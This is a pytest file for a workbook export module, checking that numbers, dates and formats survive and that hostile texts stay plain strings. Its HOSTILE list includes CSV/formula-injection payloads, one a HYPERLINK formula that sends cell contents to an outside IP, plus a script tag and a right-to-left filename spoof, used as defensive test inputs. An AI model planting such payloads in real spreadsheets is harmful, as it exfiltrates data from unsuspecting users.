"""Workbooks: numbers stay numbers, texts stay texts, whatever they begin with."""

import io
import math
import re
import zipfile
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from components.analysis import bundle
from components.analysis.data_dictionary import TABLES
from components.analysis.measure import all_measures
from components.export.workbook import MOST_CHARACTERS, number_format, table_xlsx, workbook_xlsx

HOSTILE = [
    '=HYPERLINK("http://198.51.100.7/?x="&A1,"more")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "{=1+1}",
    "http://198.51.100.7/pixel", "mailto:a@example.org", "<script>alert(1)</script>", "_x000D_", "\u202egnp.exe",
    "bell\x07 and nul\x00", "'=quoted", "]]>", "&amp;",
]  # fmt: skip


def read(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def parts(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith((".xml", ".rels")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_a_string_in_every_cell_and_heading(text):
    data = table_xlsx("evil", pd.DataFrame({text: [text, "plain"]}))
    sheet = read(data).worksheets[0]
    for cell in (sheet.cell(1, 1), sheet.cell(2, 1)):
        assert cell.data_type == "s"
        assert cell.hyperlink is None
    whole = parts(data)
    assert not re.search(r"<f[ >]|<hyperlink|TargetMode=\"External\"", whole)


def test_texts_come_back_as_they_went_in():
    texts = [t for t in HOSTILE if not re.search("[\x00-\x1f]", t)]
    data = table_xlsx("evil", pd.DataFrame({"text": texts}))
    assert pd.read_excel(io.BytesIO(data), engine="calamine")["text"].tolist() == texts


def test_numbers_are_numbers_in_the_format_of_the_screen(default_story, default_long):
    frames = bundle.frames(default_story, default_long)
    sheet = read(table_xlsx("sources", frames["sources"])).worksheets[0]
    heading = {cell.value: cell.column for cell in sheet[1]}
    for column in (c for m in all_measures() for c in m.columns if c.pool != "derived"):
        for row, value in enumerate(frames["sources"][column.name], 2):
            cell = sheet.cell(row, heading[column.name])
            if math.isnan(value):
                assert cell.value is None, "undefined is an empty cell, never 0"
                continue
            assert cell.value == pytest.approx(value, rel=1e-12)
            assert cell.data_type == "n"
            assert cell.number_format == number_format(column.format)


@pytest.mark.parametrize(
    ("spec", "excel"),
    [("+.2f", "+0.00;-0.00;0.00"), (".1f", "0.0"), (".0%", "0%"), (".1%", "0.0%"), (",d", "#,##0"), ("d", "0"),
     (",.1f", "#,##0.0"), (".0f", "0")],
)  # fmt: skip
def test_a_format_in_excels_words(spec, excel):
    assert number_format(spec) == excel


def test_truth_days_and_missing_values_are_what_excel_calls_them():
    frame = pd.DataFrame(
        {
            "counted": [True, False],
            "date": ["2025-06-17", "June"],
            "sentence_index": pd.array([3, None], dtype="Int64"),
            "tone": [-0.25, math.nan],
        }
    )
    rows = [[c.value for c in row] for row in read(table_xlsx("hits", frame)).worksheets[0].iter_rows(min_row=2)]
    assert rows == [[True, datetime(2025, 6, 17), 3, -0.25], [False, "June", None, None]]


def test_the_heading_stays_in_sight_and_can_be_filtered():
    sheet = read(table_xlsx("sources", pd.DataFrame({"source": ["A", "B"], "tone": [0.1, 0.2]}))).worksheets[0]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.column_dimensions["A"].width > 8


def test_a_table_says_what_its_columns_mean():
    book = read(table_xlsx("sources", pd.DataFrame({"source": ["A"], "tone": [0.1], "made up": [1]})))
    rows = [[c.value for c in row] for row in book["columns"].iter_rows()]
    assert [row[0] for row in rows] == ["column", "source", "tone"]
    assert rows[2][2] == "-1 to 1"


def test_half_a_character_does_not_break_the_file():
    frame = pd.DataFrame({"text": pd.Series(["lone \ud800 half"], dtype=object)})
    assert read(table_xlsx("half", frame)).worksheets[0]["A2"].value == "lone ? half"


def test_a_text_longer_than_a_cell_is_cut_with_a_sign():
    sheet = read(table_xlsx("long", pd.DataFrame({"text": ["x" * 40_000]}))).worksheets[0]
    assert len(sheet["A2"].value) == MOST_CHARACTERS
    assert sheet["A2"].value.endswith("…")


def test_the_workbook_has_every_table_and_begins_with_its_contents(default_story, default_long):
    frames = bundle.frames(default_story, default_long)
    data = workbook_xlsx(frames, [("Story", "=Alexandr Wang joins Meta")])
    book = read(data)
    assert book.sheetnames == ["contents", *frames]
    listed = {row[0].value: (row[1].value, row[2].value) for row in book["contents"].iter_rows(min_row=4)}
    assert listed == {name: (TABLES[name], len(frame)) for name, frame in frames.items()}
    assert book["contents"]["B1"].data_type == "s"
    for name, frame in frames.items():
        assert book[name].max_row == len(frame) + 1
    assert data == workbook_xlsx(frames, [("Story", "=Alexandr Wang joins Meta")]), "the same tables, the same bytes"


def test_sheets_with_long_or_equal_names_are_kept_apart():
    frame = pd.DataFrame({"a": [1]})
    names = read(workbook_xlsx({"x" * 40: frame, "x" * 35: frame, "Contents": frame}, [("a", "b")])).sheetnames
    assert len({n.casefold() for n in names}) == 4
    assert all(len(n) <= 31 for n in names)
